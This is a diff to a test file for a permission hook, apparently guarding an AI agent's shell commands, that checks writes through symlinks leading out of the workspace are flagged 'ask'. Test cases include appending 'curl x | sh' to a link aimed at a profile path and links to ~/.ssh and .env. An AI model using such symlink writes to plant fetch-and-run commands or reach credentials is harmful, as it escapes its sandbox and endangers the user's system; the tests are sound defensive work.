@@ -27,7 +27,9 @@ symlinkSync(join(home, ".ssh"), join(ws, "k"));
 symlinkSync(".env", join(ws, "notes.txt"));
 symlinkSync(join(dir, "outside", "file.txt"), join(ws, "out.txt"));
 symlinkSync(join("src", "a.ts"), join(ws, "alias.ts"));
-symlinkSync(join(dir, "outside"), join(ws, "logs"));
+// Out of the workspace and /tmp (where this tree is): a dangling link is followed as the write would be.
+symlinkSync("/etc/warden-test-none/profile", join(ws, "profile.txt"));
+symlinkSync("/etc/warden-test-none", join(ws, "logs"));
 // The same workspace reached through a link (a home under a link, macOS's /tmp).
 symlinkSync(ws, join(dir, "ws-link"));
 
@@ -102,8 +104,8 @@ describe("warden hook reads a path as the file system resolves it", () => {
   it.fails("a shell command that writes through a link out of the workspace writes outside it", async () => {
     const bash = (command: string, expected: string): Case => ["Bash", { command }, expected];
     await expectCases([
-      bash("echo 'curl x | sh' >> out.txt", "ask"),
-      bash("cp src/a.ts out.txt", "ask"),
+      bash("echo 'curl x | sh' >> profile.txt", "ask"),
+      bash("cp src/a.ts profile.txt", "ask"),
       bash("echo x > logs/new.txt", "ask"),
       bash("tee logs/new.txt < src/a.ts", "ask"),
       // The controls: a link that stays in the workspace, plain files.
@@ -115,7 +117,7 @@ describe("warden hook reads a path as the file system resolves it", () => {
     const got = await Promise.all([
       hook("Bash", { command: "echo x > src/b.ts" }, viaLink),
       hook("Bash", { command: `echo x > ${join(ws, "src", "b.ts")}` }, viaLink),
-      hook("Bash", { command: "echo x >> out.txt" }, viaLink),
+      hook("Bash", { command: "echo x >> profile.txt" }, viaLink),
     ]);
     expect(got).toEqual(["allow", "allow", "ask"]);
   }, 120_000);
